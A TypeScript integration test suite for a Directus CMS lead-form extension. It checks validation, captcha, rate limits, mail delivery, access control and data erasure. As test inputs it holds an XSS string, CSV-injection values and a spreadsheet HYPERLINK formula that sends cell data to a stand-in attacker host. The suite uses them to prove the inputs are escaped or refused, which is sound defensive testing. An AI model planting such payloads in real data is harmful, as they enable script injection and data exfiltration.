import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createServer, request as httpRequest, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { IDS } from '../../../../cms/access';
import { captchaAction } from '../../../../cms/extensions/leads/src/contract';
import { TEMP_PREFIX } from '../../../../cms/extensions/leads/src/http/read-body';
import {
  CONFIRMATIONS_PER_NETWORK,
  MAIL_LIMITS,
} from '../../../../cms/extensions/leads/src/rules/mail-limits';
import { ERASED_NAME } from '../../../../cms/extensions/leads/src/rules/retention';
import { signIn } from '../../../../cms/scripts/api';
import { localVerdict } from '../../../../cms/scripts/local-captcha';
import { startLocalMailbox, type LocalMailbox } from '../../../../cms/scripts/local-mailbox';
import answers from '../../../../contract/leads/answers.json';
import rules from '../../../../contract/leads/rules.json';
import { changeRow } from '../../../support/change-row';
import { directusFetch, startTestDirectus, type TestDirectus } from '../../../support/directus';
import {
  FILE_CONTENTS,
  INVALID,
  VALID,
  fieldsFor,
  filesFor,
  freeSlotsOf,
  newAddress,
  newPhone,
  readMails,
  sendLead,
  sendingOf,
  until,
  type LeadAnswer,
} from '../../../support/leads';

interface Row {
  id: string;
  kind: string;
  status: string;
  name: string;
  phone: string;
  message: string | null;
  file: string | null;
  file_name: string | null;
  slot: string | null;
  meeting_start: string | null;
  team_mail: string;
  visitor_mail: string;
  mail_error: string | null;
  erased_at: string | null;
}

let cms: TestDirectus;
let folder: string;
let mailbox: LocalMailbox;
let verifier: Server;
/** What the verifier answers instead of the local one's verdict. */
let verdict: Record<string, unknown> | 'down' | 'silent' | undefined;
let verified = 0;
const logs: string[] = [];
const spent = new Set<string>();

const admin = async <T>(path: string, options: { method?: string; body?: unknown } = {}) =>
  ((await directusFetch(cms.url, path, { token: cms.adminToken, ...options })).json as { data: T })
    ?.data;
const leads = () => admin<Row[]>('/items/leads?limit=-1');
const rowOf = (id: string | undefined) => admin<Row>(`/items/leads/${id}`);
const setStatus = (collection: string, slug: string, status: string) =>
  admin(`/items/${collection}`, {
    method: 'PATCH',
    body: { query: { filter: { slug: { _eq: slug } } }, data: { status } },
  });
const storedFiles = () => readdirSync(join(cms.folder, 'uploads')).length;
const temporaryFiles = () =>
  readdirSync(join(cms.folder, 'tmp')).filter((name) => name.startsWith(TEMP_PREFIX));
const send = (kind: string, changes: Record<string, string | null> = {}, key?: string) =>
  sendLead(cms.url, {
    kind,
    fields: { ...fieldsFor(kind), ...changes },
    files: filesFor(kind),
    key,
  });
const codeOf = ({ errors }: LeadAnswer) => errors?.[0]?.extensions.code;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'leads-mail-'));
  mailbox = await startLocalMailbox(folder);
  verifier = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      verified += 1;
      if (verdict === 'silent') return;
      if (verdict === 'down') return void response.writeHead(502).end('Bad gateway');
      const token = new URLSearchParams(body).get('response') ?? '';
      response.end(JSON.stringify(verdict ?? localVerdict(token, spent)));
    });
  });
  await new Promise<void>((resolve) => verifier.listen(0, '127.0.0.1', resolve));
  cms = await startTestDirectus({
    demo: true,
    // An empty PostgreSQL database for the other half of the proof.
    database: process.env.LEADS_TEST_PG,
    log: (line) => logs.push(line),
    env: {
      IP_TRUST_PROXY: 'true',
      RECAPTCHA_VERIFY_URL: `http://127.0.0.1:${(verifier.address() as AddressInfo).port}`,
      RECAPTCHA_TIMEOUT_SECONDS: '2',
      EMAIL_SMTP_PORT: String(mailbox.port),
      LEADS_MAIL_RETRY_SECONDS: '1,1,1',
    },
  });
});

afterEach(() => {
  verdict = undefined;
});

afterAll(async () => {
  await cms?.stop();
  await mailbox?.stop();
  verifier?.closeAllConnections();
  verifier?.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('a request that is in order', () => {
  it.each(VALID.map((example) => [example.title, example] as const))(
    'is stored: %s',
    async (_title, { kind, fields, file }) => {
      const slot = (await freeSlotsOf(cms.url))[0] ?? '';
      const given = Object.fromEntries(
        Object.entries(fields).map(([name, value]) => [name, value.replace('<free slot>', slot)]),
      );
      const phone = newPhone();
      const answer = await sendLead(cms.url, {
        kind,
        fields: { ...given, phone },
        files: file ? [file] : [],
      });
      expect([answer.status, answer.errors]).toEqual([answers.created.status, undefined]);
      const row = await rowOf(answer.data?.id);
      expect(row).toMatchObject({ kind, status: 'new', name: given.name, phone });
      if (given.message !== undefined) expect(row.message).toBe(given.message);
      if (given.meeting_start !== undefined) expect(row.meeting_start).toBe(slot);
      if (file === undefined) return expect(row.file).toBeNull();
      expect(row.file_name).toBe(file.name);
      const stored = await admin<{ folder: string; filename_disk: string; filesize: string }>(
        `/files/${row.file}`,
      );
      expect(stored.folder).toBe(IDS.leadsFolder);
      expect(stored.filename_disk).toMatch(/^[0-9a-f-]{36}\.(pdf|docx|jpeg)$/);
      expect(Number(stored.filesize)).toBe(file.bytes ?? FILE_CONTENTS[file.content]?.length);
      return undefined;
    },
  );

  it('brings two mails with all there is to know, and a file for the calendar', async () => {
    const slot = (await freeSlotsOf(cms.url))[0] ?? '';
    const address = `${randomUUID()}@example.com`;
    const answer = await send('meeting', {
      meeting_start: slot,
      alternative_contact: address,
      name: 'Олена <b>Приклад'.replace('<b>', ''),
      message: '<script>alert(1)</script>',
      project: 'stone-garden',
      locale: 'ua',
    });
    const id = answer.data?.id ?? '';
    await until(
      () => rowOf(id),
      ({ visitor_mail }) => visitor_mail === 'sent',
    );
    const mails = (await readMails(folder)).filter(({ messageId }) => messageId?.includes(id));
    const [team, visitor] = mails;
    expect(mails).toHaveLength(2);
    expect(team?.to?.[0]?.address).toBe('sales@amara.example');
    expect(team?.replyTo?.[0]?.address).toBe(address);
    expect(team?.text).toContain(`/admin/content/leads/${id}`);
    expect(team?.text).toContain('Project: Stone Garden');
    expect(team?.html).toContain('&lt;script&gt;');
    expect(team?.html).not.toContain('<script>');
    expect(visitor?.to?.[0]?.address).toBe(address);
    expect(visitor?.subject).toBe('Ваша зустріч з Amara');
    expect(visitor?.text).toContain('за Києвом');
    expect(visitor?.text).not.toContain('script');
    for (const mail of mails) {
      const calendar = Buffer.from(mail.attachments[0]?.content as ArrayBuffer).toString();
      expect(calendar).toContain(`DTSTART:${slot.slice(0, 16).replace(/[-:]/g, '')}00Z`);
    }
  });

  it('of a catalogue brings a link that opens the presentation and nothing else', async () => {
    const form = new FormData();
    const pdf = new Blob([new Uint8Array(FILE_CONTENTS.pdf ?? [])], { type: 'application/pdf' });
    form.append('file', pdf, 'catalogue.pdf');
    const upload = await fetch(`${cms.url}/files`, {
      method: 'POST',
      body: form,
      headers: { Authorization: `Bearer ${cms.adminToken}` },
    });
    const { data: file } = (await upload.json()) as { data: { id: string } };
    const [project] = await admin<{ id: number }[]>(
      '/items/projects?filter[slug][_eq]=stone-garden&fields=id',
    );
    await admin(`/items/projects/${project?.id}`, {
      method: 'PATCH',
      body: { presentation: file.id },
    });
    const { data } = await send('catalogue');
    const link = data?.file_url ?? '';
    const opened = await fetch(link);
    expect(opened.headers.get('content-disposition')).toContain('attachment');
    expect(opened.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await opened.arrayBuffer())).toEqual(FILE_CONTENTS.pdf);
    expect((await fetch(link.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')))).status).toBe(
      404,
    );
    expect((await fetch(`${cms.url}/assets/${file.id}`)).status).toBe(403);
  });

  it('is stored as spam, without mail and slot, where the field nobody sees is filled in', async () => {
    const slot = (await freeSlotsOf(cms.url))[0] ?? '';
    const { status, data } = await send('meeting', {
      meeting_start: slot,
      [rules.honeypot]: 'https://spam.example',
    });
    expect(status).toBe(201);
    expect(await rowOf(data?.id)).toMatchObject({ status: 'spam', slot: null, team_mail: 'none' });
    expect(await freeSlotsOf(cms.url)).toContain(slot);
  });
});

describe('a request that is not in order', () => {
  it.each(INVALID.map((example) => [example.title, example] as const))(
    'is refused and leaves nothing: %s',
    async (_title, example) => {
      const before = { rows: (await leads()).length, files: storedFiles() };
      const sending = sendingOf(example);
      if (sending.fields.meeting_start === '<free slot>') {
        sending.fields = { ...sending.fields, meeting_start: (await freeSlotsOf(cms.url))[0] };
      }
      const { status, errors } = await sendLead(cms.url, sending);
      const { code, field, reason } = example.expected;
      expect(status).toBe(rules.codes[code as keyof typeof rules.codes]);
      expect(errors?.[0]?.extensions).toEqual({
        code,
        ...(field === undefined ? {} : { field }),
        ...(reason === undefined ? {} : { reason }),
      });
      expect({ rows: (await leads()).length, files: storedFiles() }).toEqual(before);
      expect(temporaryFiles()).toEqual([]);
    },
  );

  it('hears of every field that is wrong at once, word for word as in the contract', async () => {
    const { errors } = await send('consultation', { name: null, phone: '123' });
    expect(errors).toEqual(answers.twoFieldsWrong.body.errors);
  });

  it.each([
    ['JSON', 'application/json', '{"name":"Anna"}'],
    ['a form without boundary', 'multipart/form-data', 'name=Anna'],
    ['a form with an empty boundary', 'multipart/form-data; boundary=', 'name=Anna'],
    ['a form with another parameter', 'multipart/form-data; xboundary=BB', 'name=Anna'],
    ['a form with a boundary inside', 'multipart/form-data; x="boundary=BB"', 'name=Anna'],
    ['a form with an open quote', 'multipart/form-data; boundary="BB', 'name=Anna'],
    ['a form with a tab in its boundary', 'multipart/form-data; boundary=B\tB', 'name=Anna'],
    ['a form with a mixed type', 'multipart/mixed; boundary=BB', '--BB--'],
    ['a form of a search', 'application/x-www-form-urlencoded', 'name=Anna'],
  ])('of another type is refused: %s', async (_title, type, body) => {
    const response = await fetch(`${cms.url}/leads/consultation`, {
      method: 'POST',
      body,
      headers: { 'Content-Type': type, 'Idempotency-Key': randomUUID() },
    });
    expect(response.status).toBe(415);
    expect(await response.json()).toMatchObject({
      errors: [{ extensions: { code: 'UNSUPPORTED_MEDIA_TYPE' } }],
    });
  });

  it.each([
    ['no name', 'Content-Disposition: form-data'],
    ['another disposition', 'Content-Disposition: attachment; name="name"'],
    ['an open quote', 'Content-Disposition: form-data; name="name'],
    ['no colon', 'Content-Disposition form-data'],
    ['an unknown charset', "Content-Disposition: form-data; name*=utf-99''x"],
    ['an unknown type', 'Content-Disposition: form-data; name="name"\r\nContent-Type: ;;;'],
    ['an odd charset', 'Content-Disposition: form-data; name="a"\r\nContent-Type: a/b; charset=x'],
    ['no end', `Content-Disposition: form-data; name="${'a'.repeat(20_000)}"`],
    ['a NUL', 'Content-Disposition: form-data; name="na\0me"'],
  ])(
    'with a part whose header has %s is refused, and is no failure of ours',
    async (_title, head) => {
      const response = await fetch(`${cms.url}/leads/consultation`, {
        method: 'POST',
        body: `--BB\r\n${head}\r\n\r\nAnna\r\n--BB--\r\n`,
        headers: {
          'Content-Type': 'multipart/form-data; boundary=BB',
          'Idempotency-Key': randomUUID(),
          'X-Forwarded-For': newAddress(),
        },
      });
      expect(response.status).toBe(400);
    },
  );

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
    'of the kind %s is refused',
    async (kind) => {
      expect((await sendLead(cms.url, { kind, fields: {} })).status).toBe(400);
    },
  );

  it('with fields of the prototype’s names is taken for what it says besides', async () => {
    const { status } = await send('consultation', { __proto__x: 'a', constructor: 'b' });
    expect(status).toBe(201);
  });

  it('for the catalogue of a draft hears what it hears of an unknown one', async () => {
    const [draft] = await admin<{ slug: string }[]>(
      '/items/projects?filter[slug][_eq]=teak-house&fields=slug',
    );
    await setStatus('projects', 'teak-house', 'draft');
    const answersOf = async (project = '') => (await send('catalogue', { project })).errors;
    const [ofDraft, ofNothing] = [await answersOf(draft?.slug), await answersOf('never-was')];
    await setStatus('projects', 'teak-house', 'published');
    expect(ofDraft?.[0]?.extensions).toMatchObject({ field: 'project', reason: 'unknown' });
    expect(ofDraft).toEqual(ofNothing);
  });

  it('without a key, or with one that is none, is told so', async () => {
    const answer = await send('consultation', {}, ' ');
    expect(answer.errors?.[0]?.extensions).toEqual({
      code: 'FAILED_VALIDATION',
      field: 'Idempotency-Key',
      reason: 'required',
    });
  });

  it('of no known kind is refused', async () => {
    const answer = await sendLead(cms.url, { kind: 'castle', fields: {} });
    expect([answer.status, answer.errors?.[0]?.extensions.field]).toEqual([400, 'kind']);
  });

  it('whose body ends in its middle leaves nothing, and the process alive', async () => {
    const before = { rows: (await leads()).length, files: storedFiles() };
    const head =
      '--b\r\nContent-Disposition: form-data; name="file"; filename="cv.pdf"\r\n\r\n%PDF-1.7 half';
    const { status } = await new Promise<{ status?: number }>((resolve, reject) => {
      const request = httpRequest(
        `${cms.url}/leads/vacancy`,
        {
          method: 'POST',
          headers: {
            'Content-Type': 'multipart/form-data; boundary=b',
            'Idempotency-Key': randomUUID(),
          },
        },
        (response) => {
          response.resume();
          resolve({ status: response.statusCode });
        },
      );
      request.on('error', reject);
      request.end(head);
    });
    expect(status).toBe(400);

    const { hostname, port } = new URL(cms.url);
    const socket = connect(Number(port), hostname);
    socket.write(
      `POST /leads/vacancy HTTP/1.1\r\nHost: x\r\nIdempotency-Key: k\r\nContent-Length: 100000\r\n` +
        `Content-Type: multipart/form-data; boundary=b\r\n\r\n${head}`,
    );
    await until(
      async () => temporaryFiles(),
      (names) => names.length > 0,
    );
    socket.destroy();
    expect(
      await until(
        async () => temporaryFiles(),
        (names) => names.length === 0,
      ),
    ).toEqual([]);
    expect({ rows: (await leads()).length, files: storedFiles() }).toEqual(before);
  });

  it('with a captcha of another action, host or without a score is refused', async () => {
    verdict = { success: true, score: 0.9, action: 'login' };
    expect(codeOf(await send('consultation'))).toBe('CAPTCHA_FAILED');
    verdict = { success: true, score: 0.9, hostname: 'elsewhere.example' };
    expect(codeOf(await send('consultation'))).toBe('CAPTCHA_FAILED');
    verdict = { success: true, score: 0.9, action: captchaAction('consultation') };
    expect((await send('consultation')).status).toBe(201);
  });

  it('with a captcha that was used before is refused', async () => {
    const recaptcha_token = `once-${randomUUID()}`;
    expect((await send('consultation', { recaptcha_token })).status).toBe(201);
    expect(codeOf(await send('consultation', { recaptcha_token }))).toBe('CAPTCHA_FAILED');
  });
});

describe('the same request again', () => {
  it('is answered with the same id, five at once and with a captcha that is good once', async () => {
    const key = randomUUID();
    const before = verified;
    const fields: Record<string, string> = {
      ...fieldsFor('vacancy'),
      recaptcha_token: `once-${randomUUID()}`,
    };
    const sends = Array.from({ length: 5 }, () =>
      sendLead(cms.url, { kind: 'vacancy', fields, files: filesFor('vacancy'), key }),
    );
    const results = await Promise.all(sends);
    expect(results.map(({ status }) => status)).toEqual([201, 201, 201, 201, 201]);
    expect(new Set(results.map(({ data }) => data?.id)).size).toBe(1);
    expect(verified - before).toBe(1);
    const rows = (await leads()).filter(({ phone }) => phone === fields.phone);
    expect(rows).toHaveLength(1);
  });

  it('with another content under the key is refused', async () => {
    const key = randomUUID();
    const fields = fieldsFor('consultation');
    await sendLead(cms.url, { kind: 'consultation', fields, key });
    const other = await sendLead(cms.url, {
      kind: 'consultation',
      fields: { ...fields, name: 'Other' },
      key,
    });
    expect(other.errors?.[0]?.extensions).toEqual({
      code: 'FAILED_VALIDATION',
      field: 'Idempotency-Key',
      reason: 'reused',
    });
  });
});

describe('a slot', () => {
  it('is given once, however many ask at once, and comes back with spam', async () => {
    const slot = (await freeSlotsOf(cms.url))[2] ?? '';
    const results = await Promise.all(
      Array.from({ length: 8 }, () => send('meeting', { meeting_start: slot })),
    );
    const given = results.filter(({ status }) => status === 201);
    expect(given).toHaveLength(1);
    for (const result of results.filter((entry) => entry !== given[0])) {
      expect([result.status, result.errors]).toEqual([409, answers.slotTaken.body.errors]);
    }
    expect(await freeSlotsOf(cms.url)).not.toContain(slot);
    await admin(`/items/leads/${given[0]?.data?.id}`, {
      method: 'PATCH',
      body: { status: 'spam' },
    });
    expect(await freeSlotsOf(cms.url)).toContain(slot);
  });
});

describe('too many requests', () => {
  it('of one address are put off, with the time to wait', async () => {
    const address = newAddress();
    const fields = fieldsFor('consultation');
    const key = randomUUID();
    const once = () => sendLead(cms.url, { kind: 'consultation', fields, key, address });
    for (let sent = 0; sent < 30; sent += 1) expect((await once()).status).toBe(201);
    const late = await once();
    expect([late.status, codeOf(late)]).toEqual([429, 'RATE_LIMITED']);
    expect(Number(late.headers.get('retry-after'))).toBeGreaterThan(0);
  });

  it('of one phone are put off', async () => {
    const phone = newPhone();
    for (let sent = 0; sent < 10; sent += 1) {
      expect((await send('consultation', { phone })).status).toBe(201);
    }
    expect(codeOf(await send('consultation', { phone }))).toBe('RATE_LIMITED');
  });
});

describe('confirmations', () => {
  const to = (address: string, from?: string) =>
    sendLead(cms.url, {
      kind: 'consultation',
      fields: { ...fieldsFor('consultation'), alternative_contact: address },
      address: from,
    });
  const waiting = async (sent: readonly LeadAnswer[]) => {
    const rows = await Promise.all(sent.map(({ data }) => rowOf(data?.id)));
    return rows.filter(({ visitor_mail }) => visitor_mail !== 'none').length;
  };
  const inTurn = async (count: number, once: (index: number) => Promise<LeadAnswer>) => {
    const sent: LeadAnswer[] = [];
    for (let index = 0; index < count; index += 1) sent.push(await once(index));
    expect(sent.map(({ status }) => status)).toEqual(sent.map(() => 201));
    return sent;
  };

  it('do not flood one stranger; every request is stored', async () => {
    const stranger = `${randomUUID()}@example.com`;
    const from = newAddress();
    const sent = await inTurn(MAIL_LIMITS.perNetwork.count + 2, () => to(stranger, from));
    expect(await waiting(sent)).toBe(MAIL_LIMITS.perNetwork.count);
    const others = await inTurn(MAIL_LIMITS.inAll.count, () => to(stranger));
    expect((await waiting(sent)) + (await waiting(others))).toBe(MAIL_LIMITS.inAll.count);
  });

  it('do not reach many strangers from one network', async () => {
    const from = newAddress();
    const sent = await inTurn(CONFIRMATIONS_PER_NETWORK.count + 3, () =>
      to(`${randomUUID()}@example.com`, from),
    );
    expect(await waiting(sent)).toBe(CONFIRMATIONS_PER_NETWORK.count);
  });
});

describe('the state of the requests', () => {
  it('is one word for strangers, and numbers for the team', async () => {
    const read = async (token?: string) =>
      (await directusFetch(cms.url, '/leads/health', { token })).json;
    expect(await read()).toEqual({ data: { status: expect.any(String) } });
    expect(await read(cms.buildToken)).toEqual({ data: { status: expect.any(String) } });
    const editor = await signIn(cms.url, cms.editorEmail, cms.editorPassword);
    for (const token of [cms.adminToken, editor]) {
      expect(await read(token)).toMatchObject({ data: { waiting: expect.any(Number) } });
    }
  });
});

describe('when something we need is down', () => {
  it.each(['down', 'silent'] as const)(
    'a verifier that is %s puts requests off, stores nothing, and the monitor sees it',
    async (state) => {
      verdict = state;
      const before = (await leads()).length;
      const answer = await send('consultation');
      expect([answer.status, codeOf(answer)]).toEqual([503, 'SERVICE_UNAVAILABLE']);
      expect(answer.headers.get('retry-after')).toBe('30');
      expect((await leads()).length).toBe(before);
      expect((await fetch(`${cms.url}/leads/health`)).status).toBe(503);
      verdict = undefined;
      expect((await send('consultation')).status).toBe(201);
      expect((await fetch(`${cms.url}/leads/health`)).status).toBe(200);
    },
  );

  it('mail waits, is given up in the end, and goes out when the team asks for it', async () => {
    const { port } = mailbox;
    await mailbox.stop();
    const { status, data } = await send('consultation', {
      alternative_contact: 'waits@example.com',
    });
    expect(status).toBe(201);
    const failed = await until(
      () => rowOf(data?.id),
      ({ team_mail }) => team_mail === 'failed',
    );
    expect(failed).toMatchObject({ team_mail: 'failed', visitor_mail: 'failed' });
    expect(failed.mail_error).toMatch(/^visitor_mail: E[A-Z]+$/);
    mailbox = await startLocalMailbox(folder, port);
    await admin(`/items/leads/${data?.id}`, {
      method: 'PATCH',
      body: { team_mail: 'waiting', visitor_mail: 'waiting' },
    });
    const sent = await until(
      () => rowOf(data?.id),
      ({ mail_error }) => mail_error === null,
    );
    expect(sent).toMatchObject({ team_mail: 'sent', visitor_mail: 'sent', mail_error: null });
  });
});

describe('what visitors sent', () => {
  it('is read by nobody but the team', async () => {
    const { data } = await send('vacancy');
    const { file } = await rowOf(data?.id);
    for (const token of [undefined, cms.buildToken]) {
      const read = await directusFetch(cms.url, `/items/leads/${data?.id}`, { token });
      expect(read.status).toBe(403);
    }
    expect((await fetch(`${cms.url}/assets/${file}`)).status).toBe(403);
    const editor = await signIn(cms.url, cms.editorEmail, cms.editorPassword);
    const seen = await directusFetch(cms.url, `/items/leads/${data?.id}`, { token: editor });
    expect(seen.status).toBe(200);
  });

  it('goes with its file when an editor deletes it', async () => {
    const { data } = await send('vacancy');
    const { file } = await rowOf(data?.id);
    const editor = await signIn(cms.url, cms.editorEmail, cms.editorPassword);
    const deleted = await directusFetch(cms.url, `/items/leads/${data?.id}`, {
      token: editor,
      method: 'DELETE',
    });
    expect(deleted.status).toBe(204);
    const left = async () => {
      const names = readdirSync(join(cms.folder, 'uploads'));
      const row = await directusFetch(cms.url, `/files/${file}`, { token: cms.adminToken });
      return [...names.filter((name) => name.startsWith(String(file))), row.status];
    };
    // Directus answers 403 for what is not there.
    expect(await until(left, (found) => found.length === 1 && found[0] === 403)).toEqual([403]);
  });

  it('is safe to open as a spreadsheet', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    expect((await send('consultation', {}, formula)).errors?.[0]?.extensions).toMatchObject({
      field: 'Idempotency-Key',
      reason: 'invalid',
    });
    const { data } = await send('consultation', {
      alternative_contact: '\uff1d1+1 cmd',
      utm_source: '\u200b @SUM(1)',
      message: '\u200b\n+1|calc',
    });
    const response = await fetch(
      `${cms.url}/items/leads?export=csv&filter[id][_eq]=${data?.id}&fields=alternative_contact,utm_source,message`,
      { headers: { Authorization: `Bearer ${cms.adminToken}` } },
    );
    const [, line] = (await response.text()).split('\n');
    expect(line?.split(',').map((cell) => cell.replaceAll('"', '')[0])).toEqual(["'", "'", "'"]);
  });

  const onSqlite = process.env.LEADS_TEST_PG === undefined ? it : it.skip;
  onSqlite('loses what is personal when it is old, with its file', async () => {
    const { data } = await send('vacancy');
    const { file } = await rowOf(data?.id);
    await cms.kill();
    const to = { date_created: Date.UTC(2020, 0, 1), date_updated: null };
    await changeRow(cms.folder, { table: 'leads', id: data?.id, to });
    // The job runs at each start, and every hour.
    await cms.start();
    const row = await until(
      () => rowOf(data?.id),
      ({ erased_at }) => erased_at !== null,
    );
    expect(row).toMatchObject({
      kind: 'vacancy',
      name: ERASED_NAME,
      phone: null,
      message: null,
      file: null,
    });
    const names = readdirSync(join(cms.folder, 'uploads'));
    expect(names.filter((name) => name.startsWith(String(file)))).toEqual([]);
  });

  it('is in no log', () => {
    const text = logs.join('\n');
    for (const { fields } of VALID) {
      expect(text).not.toContain(fields.name);
      expect(text).not.toContain(fields.alternative_contact);
    }
  });
});

describe('a process that is killed', () => {
  /** `LEADS_KILLS=20` for the long version. */
  const KILLS = Number(process.env.LEADS_KILLS ?? 2);

  it('has lost nothing it answered, stored nothing twice and leaves no file behind', async () => {
    const answered: { id: string; phone: string }[] = [];
    for (let kill = 0; kill < KILLS; kill += 1) {
      let running = true;
      const sender = async () => {
        while (running) {
          const phone = newPhone();
          const fields = {
            ...fieldsFor('vacancy'),
            phone,
            alternative_contact: `${randomUUID()}@example.com`,
          };
          const key = randomUUID();
          try {
            const sending = { kind: 'vacancy', fields, files: filesFor('vacancy'), key };
            const { data } = await sendLead(cms.url, sending);
            if (data) answered.push({ id: data.id, phone });
          } catch {
            // The connection broke: this one was not answered.
          }
        }
      };
      const senders = Array.from({ length: 4 }, sender);
      const before = answered.length;
      await until(
        async () => answered.length,
        (count) => count > before + 1,
      );
      // Into the middle of the next ones, each time at another moment.
      await new Promise((resolve) => setTimeout(resolve, kill * 7));
      await cms.kill();
      running = false;
      await Promise.all(senders);
      await cms.start();
    }
    expect(answered.length).toBeGreaterThan(0);
    const settled = await until(
      leads,
      (rows) =>
        rows.every(
          ({ team_mail, visitor_mail }) => team_mail !== 'waiting' && visitor_mail !== 'waiting',
        ),
      90_000,
    );
    const mails = (await readMails(folder)).map(({ messageId }) => messageId ?? '');
    for (const { id, phone } of answered) {
      expect(settled.filter((row) => row.phone === phone).map((row) => row.id)).toEqual([id]);
      expect(mails.filter((name) => name.includes(`${id}.team`)).length).toBeGreaterThan(0);
      expect(mails.filter((name) => name.includes(`${id}.visitor`)).length).toBeGreaterThan(0);
    }
    const files = await admin<{ id: string }[]>(
      `/files?limit=-1&fields=id&filter[folder][_eq]=${IDS.leadsFolder}`,
    );
    const library = await admin<{ filename_disk: string }[]>(
      '/files?limit=-1&fields=filename_disk',
    );
    const known = new Set(library.map(({ filename_disk }) => filename_disk));
    // Bytes that no row leads to would be beyond the reach of the retention rule.
    expect(readdirSync(join(cms.folder, 'uploads')).filter((name) => !known.has(name))).toEqual([]);
    const owned = new Set(settled.map(({ file }) => file));
    // Where several processes may share the database, the sweep waits an hour.
    const isAlone = process.env.LEADS_TEST_PG === undefined;
    expect(isAlone ? files.filter(({ id }) => !owned.has(id)) : []).toEqual([]);
    expect(temporaryFiles()).toEqual([]);
  }, 900_000);
});
